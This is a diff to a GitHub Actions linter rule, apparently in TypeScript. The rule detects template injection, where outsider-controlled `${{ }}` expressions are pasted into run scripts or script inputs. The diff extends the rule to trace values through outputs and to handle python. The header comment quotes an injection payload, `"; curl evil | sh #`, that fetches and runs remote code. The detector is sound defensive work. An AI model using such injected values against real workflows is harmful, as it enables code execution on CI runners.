@@ -1,15 +1,19 @@
 // `${{ }}` is expanded into the script's text before the shell (or node) sees it, so a value an outsider
 // writes (an issue title, a branch name) becomes code: `"; curl evil | sh #`. An env variable is passed as
-// data instead. Also followed one level through env: `${{ env.TITLE }}` where TITLE holds such a value.
-import { untrustedIn } from "./untrusted.ts";
+// data instead. The value is followed through env, step and job outputs and inputs (untrusted.ts); only
+// what can reach the expression's result counts, so `${{ github.event.issue.title == 'x' }}` is fine.
+import { untrustedSource } from "./untrusted.ts";
 import { defineRule, type ModelPath } from "./types.ts";
-import { envEntry, expressionsOf } from "./util.ts";
+import { expressionsOf } from "./util.ts";
 
-// Action inputs that are code: the action runs the value as a script.
-const SCRIPT_INPUTS: Record<string, { input: string; language: "js" | "pwsh" | "shell" }> = {
+// Action inputs that are code: the action runs the value as a script (keys lowercase).
+const SCRIPT_INPUTS: Record<string, { input: string; language: "js" | "pwsh" | "shell" | "python" }> = {
   "actions/github-script": { input: "script", language: "js" },
   "azure/cli": { input: "inlinescript", language: "shell" },
   "azure/powershell": { input: "inlinescript", language: "pwsh" },
+  "nick-fields/retry": { input: "command", language: "shell" },
+  "jannekem/run-python-script-action": { input: "script", language: "python" },
+  "mikefarah/yq": { input: "cmd", language: "shell" },
 };
 
 export const templateInjection = defineRule({
@@ -19,12 +23,14 @@ export const templateInjection = defineRule({
   summary: "An expression whose value outsiders control is pasted into a run: script or a script input.",
   fix: "Pass the value through env: and read the variable in the script (\"$VALUE\" in bash, process.env.VALUE in github-script).",
   visits: ["step"],
+  documents: ["workflow", "action"],
   check(context) {
     const { step, job, workflow } = context;
-    const sinks: Array<{ text: string; path: ModelPath; language: "js" | "pwsh" | "shell"; what: string }> = [];
+    const sinks: Array<{ text: string; path: ModelPath; language: "js" | "pwsh" | "shell" | "python"; what: string }> = [];
     if (step.run !== undefined) {
       const shell = typeof step.value.shell === "string" ? step.value.shell.toLowerCase() : "";
-      sinks.push({ text: step.run, path: [...step.path, "run"], language: shell.startsWith("pwsh") || shell.startsWith("powershell") ? "pwsh" : "shell", what: "the script" });
+      const language = shell.startsWith("pwsh") || shell.startsWith("powershell") ? "pwsh" : shell.startsWith("python") ? "python" : "shell";
+      sinks.push({ text: step.run, path: [...step.path, "run"], language, what: "the script" });
     }
     const sink = step.uses?.kind === "action" ? SCRIPT_INPUTS[step.uses.name.toLowerCase()] : undefined;
     if (sink) {
@@ -39,31 +45,25 @@ export const templateInjection = defineRule({
       for (const expression of expressionsOf(text)) {
         const occurrence = seen.get(expression.text) ?? 0;
         seen.set(expression.text, occurrence + 1);
-        let source = untrustedIn(expression.inner);
-        let viaEnv: string | undefined;
-        if (source === undefined) {
-          for (const match of expression.inner.matchAll(/\benv\s*\.\s*([A-Za-z_][A-Za-z0-9_]*)/g)) {
-            const entry = envEntry(match[1]!, workflow, job, step);
-            const held = entry && expressionsOf(entry.value).map((e) => untrustedIn(e.inner)).find((w) => w !== undefined);
-            if (held) {
-              source = `env ${match[1]}, which holds ${held}`;
-              viaEnv = match[1];
-              break;
-            }
-          }
-        }
+        const source = untrustedSource(expression.inner, { workflow, job, step });
         if (source === undefined) continue;
-        const name = viaEnv ?? variableName(expression.inner);
-        const read = language === "js" ? `process.env.${name}` : language === "pwsh" ? `$env:${name}` : `"$${name}"`;
+        const name = source.env ?? variableName(expression.inner);
+        const read =
+          language === "js" ? `process.env.${name}` : language === "pwsh" ? `$env:${name}` : language === "python" ? `os.environ["${name}"]` : `"$${name}"`;
+        const shown = expression.text.replace(/\s+/g, " ");
         context.report({
           path,
           needle: expression.text,
           occurrence,
-          message: `${expression.text.replace(/\s+/g, " ")} is pasted into ${what} before it runs; it is ${source}, so they can make it run commands of their choosing`,
+          ...(source.severity === "error" ? {} : { severity: source.severity }),
+          message:
+            source.severity === "error"
+              ? `${shown} is pasted into ${what} before it runs; it is ${source.what}, so they can make it run commands of their choosing`
+              : `${shown} is pasted into ${what} before it runs; it is ${source.what}, so such text would run as commands`,
           fix:
-            viaEnv !== undefined
+            source.env !== undefined
               ? `use ${read} in place of the expression: ${name} is already in the step's environment, and reading it there keeps the value data`
-              : `add env: { ${name}: ${expression.text.replace(/\s+/g, " ")} } to the step and use ${read} in place of the expression`,
+              : `add env: { ${name}: ${shown} } to the step and use ${read} in place of the expression`,
         });
       }
     }
